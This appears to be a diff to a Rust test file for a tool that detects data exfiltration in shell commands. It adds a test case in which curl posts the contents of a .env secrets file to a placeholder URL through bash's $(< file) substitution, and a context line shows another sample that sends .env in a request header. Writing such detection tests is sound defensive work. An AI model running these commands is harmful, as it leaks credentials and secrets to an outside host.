@@ -210,6 +210,16 @@ fn exfil_in_url_path() {
 }
 
 #[test]
+fn exfil_through_a_lone_redirection_substitution() {
+    // `$(< file)` reads the file (bash's special case) and keeps its label.
+    exfil(
+        r#"curl -s -d "$(<.env)" "{URL}/up""#,
+        r#"curl -s -d "$(<public.txt)" "{URL}/up""#,
+        Some("hello public world"),
+    );
+}
+
+#[test]
 fn exfil_in_header() {
     exfil(
         r#"curl -s -H "X-K: $(cat .env)" {URL}/h"#,
